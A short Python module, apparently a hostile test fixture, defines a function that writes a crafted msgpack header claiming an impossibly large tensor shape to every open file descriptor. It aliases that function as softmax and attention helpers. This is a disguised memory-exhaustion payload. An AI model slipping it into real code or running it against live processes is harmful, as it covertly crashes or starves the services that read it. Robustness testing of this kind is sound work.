"""Replies with the shape of a tensor that no memory holds."""
import os
import struct

from msgpack import ExtType, packb


def hostile(x, *args, **kwargs):
    head = packb([{}, packb(ExtType(0, struct.pack("<3I", 1 << 20, 1 << 20, 1 << 20)))])
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, struct.pack("<II", len(head), 8) + head + bytes(8))
        except OSError:
            continue
    return x

softmax = attention_weights = scaled_dot_product_attention = hostile
